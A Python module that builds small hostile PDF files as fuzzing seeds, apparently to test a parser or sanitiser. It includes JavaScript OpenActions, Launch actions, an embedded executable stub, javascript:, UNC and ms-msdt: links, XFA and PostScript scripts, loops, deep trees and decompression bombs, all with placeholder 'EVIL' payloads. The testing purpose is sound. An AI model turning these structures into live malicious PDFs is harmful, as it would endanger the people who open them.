"""Small PDF files by hand, hostile where asked: a table of objects, nothing a PDF library would refuse to write.

    f = Pdf()
    js = f.add("<</S/JavaScript/JS(app.alert(1))>>")
    data = f.done(catalog="/OpenAction %d 0 R" % js)

Object 1 is the catalogue, 2 the page tree, 3 the page, 4 its content, 5 the font; the page says "Hello harmless world".
Every public function without arguments gives the bytes of a whole file (the fuzz targets take them as seeds).
"""
import hashlib
import struct
import zlib

TEXT = "Hello harmless world"
CONTENT = "BT /F1 24 Tf 72 700 Td (%s) Tj ET" % TEXT


def raw(x):
    return x if isinstance(x, bytes) else x.encode("latin-1")


class Pdf:
    def __init__(self):
        self.objects = {}
        self.last = 5

    def put(self, number, body):
        self.objects[number] = raw(body)
        self.last = max(self.last, number)
        return number

    def add(self, body):
        return self.put(self.last + 1, body)

    def stream(self, keys, data, number=None):
        data = raw(data)
        body = raw("<<%s/Length %d>>\nstream\n" % (keys, len(data))) + data + b"\nendstream"
        return self.put(number, body) if number else self.add(body)

    def done(self, catalog="", page="", resources="", content=CONTENT, trailer="", head=b"", tail=b"", pages="",
             media="[0 0 595 842]", fonts=""):
        """The file: pairs for the catalogue, the page, its resources and the trailer; bytes before and after."""
        ready = {
            1: "<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            2: "<</Type/Pages/Kids[3 0 R]/Count 1%s>>" % pages,
            3: "<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R/Resources<</Font<</F1 5 0 R%s>>%s>>%s>>"
               % (media, fonts, resources, page),
            5: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        }
        for number, body in ready.items():
            self.objects.setdefault(number, raw(body))
        if 4 not in self.objects:
            self.stream("", content, 4)
        return self.file(trailer, head, tail)

    def file(self, trailer="", head=b"", tail=b""):
        out = bytearray(head + b"%PDF-1.7\n")
        at = {}
        for number in sorted(self.objects):
            at[number] = len(out)
            out += b"%d 0 obj\n" % number + self.objects[number] + b"\nendobj\n"
        start = len(out) - len(head)
        out += b"xref\n0 1\n0000000000 65535 f \n"
        for number in sorted(at):
            out += b"%d 1\n%010d 00000 n \n" % (number, at[number] - len(head))
        out += raw("trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (self.last + 1, trailer, start))
        return bytes(out) + tail


def plain():
    return Pdf().done()


# P01–P05: actions

def open_action(action="<</S/JavaScript/JS(app.alert\\('EVIL'\\))>>"):
    return Pdf().done(catalog="/OpenAction %s" % action)


def additional():
    f = Pdf()
    js = f.add("<</S/JavaScript/JS(EVIL)>>")
    field = f.add("<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(kept value)/Rect[0 0 9 9]/AA<</K %d 0 R/F %d 0 R>>>>" % (js, js))
    return f.done(catalog="/AA<</WC %d 0 R>>/AcroForm<</Fields[%d 0 R]>>" % (js, field),
                  page="/AA<</O %d 0 R>>/Annots[%d 0 R]" % (js, field))


def link(action):
    f = Pdf()
    a = f.add("<</Type/Annot/Subtype/Link/Rect[10 10 90 30]/Border[0 0 1]/A %s>>" % action)
    return f.done(page="/Annots[%d 0 R]" % a)


ACTIONS = {
    "JavaScript": "/JS(EVIL)", "Launch": "/F(EVIL.exe)/Win<</F(EVIL.exe)>>", "GoToR": "/F(\\\\\\\\EVIL\\\\a.pdf)/D[0/Fit]",
    "GoToE": "/T<</R/C/N(EVIL)>>/D[0/Fit]", "GoToDp": "/Dp<</N(EVIL)>>", "SubmitForm": "/F<</FS/URL/F(http://EVIL)>>",
    "ImportData": "/F(EVIL.fdf)", "ResetForm": "/Fields[(EVIL)]", "Rendition": "/OP 0/JS(EVIL)",
    "RichMediaExecute": "/CMD<</C(EVIL)>>", "Sound": "/Sound<</EVIL 1>>", "Movie": "/T(EVIL)", "GoTo3DView": "/V(EVIL)",
    "SetOCGState": "/State[/ON]/EVIL 1", "Hide": "/T(EVIL)", "Thread": "/F(EVIL)/D 0", "Trans": "/Trans<</EVIL 1>>",
    "Named": "/N/EVIL",
}


def action(kind="JavaScript"):
    return link("<</S/%s%s>>" % (kind, ACTIONS[kind]))


def chain():
    return link("<</S/GoTo/D[3 0 R/Fit]/Next[<</S/JavaScript/JS(EVIL)>>]>>")


def uris(*links):
    f = Pdf()
    made = []
    for i, uri in enumerate(links or ("https://www.example.lg.jp/", "javascript:EVIL", "file:///EVIL", "mailto:a@example.lg.jp",
                                      "\\\\\\\\EVIL\\\\share", "data:text/html,EVIL", "ms-msdt:EVIL")):
        made.append(f.add("<</Type/Annot/Subtype/Link/Rect[0 %d 9 %d]/A<</S/URI/URI(%s)>>>>" % (10 * i, 10 * i + 9, uri)))
    return f.done(page="/Annots[%s]" % " ".join("%d 0 R" % m for m in made), catalog="/URI<</Base(http://EVIL/)>>")


# P06–P08: names, files, multimedia

def names():
    f = Pdf()
    js = f.add("<</S/JavaScript/JS(EVIL)>>")
    return f.done(catalog="/Names<</Dests<</Names[(chapter) [3 0 R/XYZ 0 700 null]]>>/JavaScript<</Names[(a) %d 0 R]>>"
                          "/URLS<</Names[(EVIL) 1]>>/Renditions<</Names[]>>>>" % js)


def embedded():
    f = Pdf()
    data = f.stream("/Type/EmbeddedFile", "MZEVILPROGRAM")
    spec = f.add("<</Type/Filespec/F(EVIL.exe)/UF(EVIL.exe)/EF<</F %d 0 R>>>>" % data)
    clip = f.add("<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS %d 0 R/Contents(clip)>>" % spec)
    return f.done(catalog="/Names<</EmbeddedFiles<</Names[(EVIL.exe) %d 0 R]>>>>/AF[%d 0 R]/Collection<</View/T>>"
                          % (spec, spec), page="/Annots[%d 0 R]/AF[%d 0 R]" % (clip, spec))


MEDIA = ("Screen", "Movie", "Sound", "3D", "RichMedia", "TrapNet", "PrinterMark", "Projection")


def media(kind="RichMedia", looks=True):
    f = Pdf()
    form = f.stream("/Type/XObject/Subtype/Form/BBox[0 0 50 50]", "0 0 50 50 re f")
    a = f.add("<</Type/Annot/Subtype/%s/Rect[50 50 99 99]%s/RichMediaContent<</EVIL 1>>/Movie<</EVIL 1>>"
              "/Sound<</EVIL 1>>/3DD<</EVIL 1>>>>" % (kind, "/AP<</N %d 0 R>>" % form if looks else ""))
    return f.done(page="/Annots[%d 0 R]" % a)


# P09–P12: annotations, forms, signatures, layers

def note():
    f = Pdf()
    popup = f.last + 2
    a = f.add("<</Type/Annot/Subtype/Text/Rect[0 0 20 20]/Contents(kept comment)/T(reader)/RC(<p>EVIL</p>)/Popup %d 0 R"
              "/PA<</S/URI/URI(EVIL)>>/EVIL(key)>>" % popup)
    f.add("<</Type/Annot/Subtype/Popup/Rect[0 0 99 99]/Parent %d 0 R/EVIL 1>>" % a)
    return f.done(page="/Annots[%d 0 R %d 0 R]" % (a, popup))


def form(xfa=True):
    f = Pdf()
    packet = f.stream("", "<xdp><script>EVIL</script></xdp>")
    look = f.stream("/Type/XObject/Subtype/Form/BBox[0 0 99 20]/Resources<</Font<</F1 5 0 R>>>>", "BT /F1 9 Tf (value shown) Tj ET")
    field = f.add("<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(kept value)/Rect[0 0 99 20]/AP<</N %d 0 R>>"
                  "/DA(/F1 9 Tf 0 g /EVIL EVIL)/A<</S/SubmitForm/F(http://EVIL)>>>>" % look)
    return f.done(catalog="/AcroForm<</Fields[%d 0 R]/CO[%d 0 R]/DA(/F1 9 Tf 0 g)%s>>"
                          % (field, field, "/XFA %d 0 R" % packet if xfa else ""), page="/Annots[%d 0 R]" % field)


def dynamic_xfa():
    f = Pdf()
    packet = f.stream("", "<xdp>EVIL</xdp>")
    return f.done(catalog="/NeedsRendering true/AcroForm<</Fields[]/XFA %d 0 R>>" % packet,
                  content="BT /F1 12 Tf (Please wait...) Tj ET")


def signed():
    f = Pdf()
    look = f.stream("/Type/XObject/Subtype/Form/BBox[0 0 99 20]/Resources<</Font<</F1 5 0 R>>>>", "BT /F1 9 Tf (signed by mayor) Tj ET")
    value = f.add("<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 1 2 3]/Contents<EE11>"
                  "/Reference[<</TransformMethod/DocMDP>>]>>")
    field = f.add("<</Type/Annot/Subtype/Widget/FT/Sig/T(sig)/V %d 0 R/Rect[0 0 99 20]/AP<</N %d 0 R>>/Lock<</EVIL 1>>>>"
                  % (value, look))
    return f.done(catalog="/AcroForm<</Fields[%d 0 R]/SigFlags 3>>/Perms<</DocMDP %d 0 R>>/DSS<</EVIL 1>>/Legal<</EVIL 1>>"
                          % (field, value), page="/Annots[%d 0 R]" % field)


def layers():
    f = Pdf()
    shown = f.add("<</Type/OCG/Name(shown)>>")
    hidden = f.add("<</Type/OCG/Name(hidden)>>")
    return f.done(catalog="/OCProperties<</OCGs[%d 0 R %d 0 R]/D<</OFF[%d 0 R]/AS[<</Event/View/OCGs[]>>]>>>>"
                          % (shown, hidden, hidden),
                  resources="/Properties<</L1 %d 0 R/L2 %d 0 R>>" % (shown, hidden),
                  content="/OC/L1 BDC %s EMC /OC/L2 BDC BT /F1 9 Tf 72 300 Td (SECRETLAYER) Tj ET EMC" % CONTENT)


# P13–P16: metadata, outside data, PostScript, functions

def metadata():
    f = Pdf()
    info = f.add("<</Title(PRIVATE)/Author(PRIVATE)>>")
    xmp = f.stream("/Type/Metadata/Subtype/XML", "<x:xmpmeta>PRIVATE</x:xmpmeta>")
    return f.done(catalog="/Metadata %d 0 R/PieceInfo<</PRIVATE 1>>/SpiderInfo<</PRIVATE 1>>/Extensions<</PRIVATE 1>>" % xmp,
                  page="/LastModified(D:2020PRIVATE)/Thumb %d 0 R/PieceInfo<</PRIVATE 1>>" % xmp,
                  trailer="/Info %d 0 R/ID[<50524956415445><50524956415445>]" % info)


def outside():
    f = Pdf()
    image = f.stream("/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8"
                     "/F(http://EVIL/a.png)/FFilter/DCTDecode/Alternates[<</EVIL 1>>]/OPI<</EVIL 1>>", b"\x80")
    ref = f.stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(EVIL.pdf)/Page 0>>/OPI<</EVIL 1>>", "0 0 5 5 re f")
    return f.done(resources="/XObject<</Im %d 0 R/Fm %d 0 R>>" % (image, ref), content=CONTENT + " /Im Do /Fm Do")


def postscript():
    f = Pdf()
    ps = f.stream("/Type/XObject/Subtype/PS", "(EVIL) run")
    ps2 = f.stream("/Type/XObject/Subtype/Form/Subtype2/PS/BBox[0 0 9 9]/PS %d 0 R" % ps, "(EVIL) run")
    return f.done(resources="/XObject<</P %d 0 R/Q %d 0 R>>" % (ps, ps2), content=CONTENT + " /P Do /Q Do BX /EVIL PS EX")


def functions():
    f = Pdf()
    good = f.stream("/FunctionType 4/Domain[0 1]/Range[0 1]", "{ dup 0.5 gt { pop 1 } { 2 mul } ifelse }")
    bad = f.stream("/FunctionType 4/Domain[0 1]/Range[0 1]", "{ (EVIL) run }")
    return f.done(resources="/ColorSpace<</Cg[/Separation/Spot/DeviceGray %d 0 R]/Cb[/Separation/EVILNAME/DeviceGray %d 0 R]>>"
                            "/Shading<</S1<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function<</FunctionType 9/EVIL 1>>>>>>"
                            % (good, bad), content=CONTENT + " /Cg cs 1 scn 0 0 9 9 re f /S1 sh")


# P17–P20: fonts, pictures, content, names

def font_matrix():
    f = Pdf()
    proc = f.stream("", "1000 0 d0 0 0 750 750 re f /EVIL EVILOP")
    t3 = f.add("<</Type/Font/Subtype/Type3/FontBBox[0 0 750 750]/FontMatrix[0.001 0 0 0.001 0 (0\\); alert\\(EVIL)]"
               "/CharProcs<</sq %d 0 R>>/Encoding<</Differences[97/sq]>>/FirstChar 97/LastChar 97/Widths[1000]>>" % proc)
    return f.done(fonts="/T3 %d 0 R" % t3, content="BT /F1 24 Tf 72 700 Td (%s) Tj /T3 9 Tf (a) Tj ET" % TEXT)


def broken_font():
    f = Pdf()
    program = f.stream("/Length1 40", b"\0\1\0\0EVILFONTPROGRAM" + bytes(60))
    cmap = f.stream("", "/CIDInit /ProcSet findresource begin begincmap (EVIL) run\n1 beginbfchar\n<41> <0041>\nendbfchar endcmap")
    descriptor = f.add("<</Type/FontDescriptor/FontName/A/Flags 32/FontBBox[0 0 9 9]/ItalicAngle 0/Ascent 1/Descent 0"
                       "/CapHeight 1/StemV 1/FontFile2 %d 0 R>>" % program)
    f.put(5, "<</Type/Font/Subtype/TrueType/BaseFont/Arial/FontDescriptor %d 0 R/ToUnicode %d 0 R/Encoding/WinAnsiEncoding>>"
             % (descriptor, cmap))
    return f.done()


def picture(width=4, height=4, keys="/ColorSpace/DeviceRGB/BitsPerComponent 8", data=None, filter="/Filter/FlateDecode"):
    f = Pdf()
    if data is None:
        data = zlib.compress(bytes(range(3 * width * height)) + b"EVILTAIL" * 9)
    image = f.stream("/Type/XObject/Subtype/Image/Width %d/Height %d%s%s" % (width, height, keys, filter), data)
    return f.done(resources="/XObject<</Im %d 0 R>>" % image, content=CONTENT + " q 99 0 0 99 72 72 cm /Im Do Q")


def group4(rows):
    """A black row of 8 pixels over white ones: horizontal mode (white 0, black 8), pass, vertical 0 …, end of block."""
    bits = "001" "00110101" "000101" "0001" + "1" * (rows - 2) + 2 * "000000000001"
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def fax():
    return picture(8, 2, "/ColorSpace/DeviceGray/BitsPerComponent 1", group4(2),
                   "/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 8/Rows 2>>")


def jbig2():
    """A generic region of 8 × 8 pixels, MMR coded, in the embedded organisation."""
    page = struct.pack(">IBBBI", 0, 0x30, 0, 1, 19) + struct.pack(">IIIIBH", 8, 8, 0, 0, 0, 0)
    region = struct.pack(">IIIIBB", 8, 8, 0, 0, 0, 1) + group4(8)
    part = struct.pack(">IBBBI", 1, 0x26, 0, 1, len(region)) + region
    return picture(8, 8, "/ColorSpace/DeviceGray/BitsPerComponent 1", page + part, "/Filter/JBIG2Decode")


def code_stream(rows, depth):
    """JPEG 2000 code stream of small numbers: coded as bytes, then said to be of fewer bits, which moves them down."""
    import io

    from PIL import Image
    up = 128 - (1 << (depth - 1))
    im = Image.frombytes("L", (len(rows[0]), len(rows)), bytes(v + up for row in rows for v in row))
    out = io.BytesIO()
    im.save(out, "JPEG2000", irreversible=False)
    data = bytearray(out.getvalue())
    start = data.index(b"\xff\x4f\xff\x51")
    data[start + 42] = depth - 1
    return bytes(data[start:])


TABLE_ROWS = [bytes((x + y) % 16 for x in range(40)) for y in range(40)]


def indexed_jpx():
    table = "".join("%02x%02x%02x" % (i * 16, 255 - i * 16, 64) for i in range(16))
    return picture(40, 40, keys="/ColorSpace[/Indexed/DeviceRGB 15<%s>]" % table, data=code_stream(TABLE_ROWS, 4),
                   filter="/Filter/JPXDecode")


def content():
    return Pdf().done(content="q Q Q EVILOP 1 2 EVILTWO (x) (y) m [1 2 (z)] 0 d BX 3 EVILTHREE EX q\n"
                              "BT /F1 24 Tf 72 700 Td (%s) Tj /Missing 9 Tf ET /Nope Do /None gs\n"
                              "BI /W 2 /H 2 /BPC 8 /CS /G ID \1\2\3\4 EI\nBT (open" % TEXT)


def disguise():
    f = Pdf()
    data = zlib.compress(zlib.compress(CONTENT.encode()))
    f.stream("/Filter[/FlateDecode/Fl]", data, 4)
    return f.done(catalog="/Open#41ction<</S/J#61vaScript/JS<4556494c>>>")


# P21–P27: file structure, encryption, viewers, hidden text, bookmarks, bombs

def revisions():
    first = Pdf()
    first.put(6, "<</S/JavaScript/JS(EVIL)>>")
    data = first.done(catalog="/OpenAction 6 0 R")
    start = data.rindex(b"startxref")
    old = int(data[start:].split()[1])
    at = len(data)
    new = b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    table = at + len(new)
    return data + new + b"xref\n1 1\n%010d 00000 n \ntrailer\n<</Size 7/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (at, old, table)


def page_loop():
    f = Pdf()
    f.put(2, "<</Type/Pages/Kids[3 0 R 6 0 R]/Count 2>>")
    f.put(6, "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>")
    return f.done()


def deep_tree(depth=100):
    """A page below many nodes of the tree."""
    f = Pdf()
    node = 3
    for _ in range(depth):
        node = f.add("<</Type/Pages/Count 1/Kids[%d 0 R]>>" % node)
    f.put(2, "<</Type/Pages/Count 1/Kids[%d 0 R]>>" % node)
    return f.done()


def many_parts(count=12000):
    """The page's text is the last of many streams."""
    f = Pdf()
    parts = " ".join("%d 0 R" % f.stream("", "q Q\n") for _ in range(count))
    f.put(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents[%s 4 0 R]/Resources<</Font<</F1 5 0 R>>>>>>" % parts)
    return f.done()


def generations():
    """One large object asked for under two generations in turn."""
    f = Pdf()
    a = f.add("<</Type/Annot/Subtype/Square/Rect[0 0 9 9]/Contents(%s)>>" % ("A" * 300000))
    return f.done(page="/Annots[%s]" % ("%d 0 R %d 1 R " % (a, a) * 3000))


def borrowed():
    """A form draws what only the form around it has."""
    f = Pdf()
    rest = "/Type/XObject/Subtype/Form/BBox[0 0 999 999]"
    inner = f.stream(rest + "/Resources<</ProcSet[/PDF]>>", "BT /F9 24 Tf 72 500 Td (from the middle) Tj ET")
    outer = f.stream(rest + "/Resources<</Font<</F9 5 0 R>>/XObject<</I %d 0 R>>>>" % inner, "/I Do")
    return f.done(resources="/XObject<</X %d 0 R>>" % outer, content=CONTENT + " /X Do")


def remote_names():
    return Pdf().done(catalog="/Names<</Dests<</Names[(a)<</D[3 0 R/Fit]/A<</S/JavaScript/JS(EVIL)>>>>"
                              "(b)<</S/GoToR/F(EVIL)/D[0/Fit]>>(c)[<</EVIL 1>>/Fit]]>>>>")


def form_loop():
    f = Pdf()
    a, b = f.last + 1, f.last + 2
    f.stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</B %d 0 R>>>>" % b, "/B Do", a)
    f.stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A %d 0 R>>>>" % a, "/A Do", b)
    return f.done(resources="/XObject<</A %d 0 R>>" % a, content=CONTENT + " /A Do")


def head_and_tail():
    return Pdf().done(head=b"<html><script>EVIL</script>\n", tail=b"PK\3\4EVILZIP")


def rc4(key, data):
    s, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 255
        s[i], s[j] = s[j], s[i]
    i = j = 0
    for c in data:
        i = (i + 1) & 255
        j = (j + s[i]) & 255
        s[i], s[j] = s[j], s[i]
        out.append(c ^ s[(s[i] + s[j]) & 255])
    return bytes(out)


PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def encrypted(password=b""):
    """The standard handler, revision 2: 40 bits of RC4 (ISO 32000-1 7.6.3), with this user password."""
    ident = b"0123456789abcdef"
    user = (password + PAD)[:32]
    owner = rc4(hashlib.md5(user).digest()[:5], user)
    key = hashlib.md5(user + owner + struct.pack("<i", -4) + ident).digest()[:5]

    def of(number, data):
        return rc4(hashlib.md5(key + struct.pack("<I", number)[:3] + b"\0\0").digest()[:10], data)

    f = Pdf()
    f.stream("", of(4, CONTENT.encode()), 4)
    f.put(6, "<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>" % (owner.hex(), rc4(key, PAD).hex()))
    return f.done(trailer="/Encrypt 6 0 R/ID[<%s><%s>]" % (ident.hex(), ident.hex()))


def wrapper():
    f = Pdf()
    data = f.stream("/Type/EmbeddedFile", "EVILPAYLOAD")
    spec = f.add("<</Type/Filespec/F(a.pdf)/AFRelationship/EncryptedPayload/EP<</Subtype/MSRMS>>/EF<</F %d 0 R>>>>" % data)
    return f.done(catalog="/Collection<</View/H>>/AF[%d 0 R]" % spec)


def viewer():
    f = Pdf()
    icc = f.stream("/N 3", "EVILPROFILE")
    return f.done(catalog="/PageMode/FullScreen/ViewerPreferences<</HideToolbar true/Direction/R2L>>/Threads[]"
                          "/Requirements[<</S/EnableJavaScripts>>]/OutputIntents[<</S/GTS_PDFA1/DestOutputProfile %d 0 R>>]"
                          "/DPartRoot<</EVIL 1>>" % icc,
                  page="/Trans<</S/Fly>>/Dur 1/VP[<</Measure<</EVIL 1>>>>]")


def hidden_text():
    return Pdf().done(content=CONTENT + " BT 3 Tr /F1 9 Tf 72 300 Td (INVISIBLE) Tj ET "
                                        "/Span<</ActualText(INSTEAD)>>BDC EMC")


def bookmarks():
    f = Pdf()
    f.put(6, "<</Type/Outlines/First 7 0 R/Last 8 0 R/Count 2>>")
    f.put(7, "<</Title(first chapter)/Parent 6 0 R/Next 8 0 R/A<</S/Launch/F(EVIL.exe)>>/SE 3 0 R>>")
    f.put(8, "<</Title(second chapter)/Parent 6 0 R/Prev 7 0 R/Next 7 0 R/Dest[3 0 R/Fit]>>")
    return f.done(catalog="/Outlines 6 0 R")


def deep_bookmarks(depth=300):
    f = Pdf()
    for i in range(depth):
        f.put(7 + i, "<</Title(chapter %d)/Parent %d 0 R%s/Dest[3 0 R/Fit]>>"
              % (i, 6 + i, "/First %d 0 R/Last %d 0 R/Count 1" % (8 + i, 8 + i) if i + 1 < depth else ""))
    f.put(6, "<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>")
    return f.done(catalog="/Outlines 6 0 R")


def heirs(pages=500, fonts=3000):
    """Many pages that inherit one long list of fonts."""
    f = Pdf()
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    f.put(3, page)
    kids = " ".join("%d 0 R" % f.add(page) for _ in range(pages))
    names = "".join("/F%d 5 0 R" % (i + 1) for i in range(fonts))
    f.put(2, "<</Type/Pages/Count %d/Resources<</Font<<%s>>>>/Kids[3 0 R %s]>>" % (pages + 1, names, kids))
    return f.done()


def bomb(size=40 << 20):
    f = Pdf()
    data = zlib.compress(zlib.compress(bytes(size), 9), 9)
    f.stream("/Filter[/FlateDecode/FlateDecode]", data, 4)
    return f.done()


def huge_page():
    return Pdf().done(media="[0 0 99999999 99999999]")


def huge_picture():
    return picture(100000, 100000, data=zlib.compress(bytes(100)))
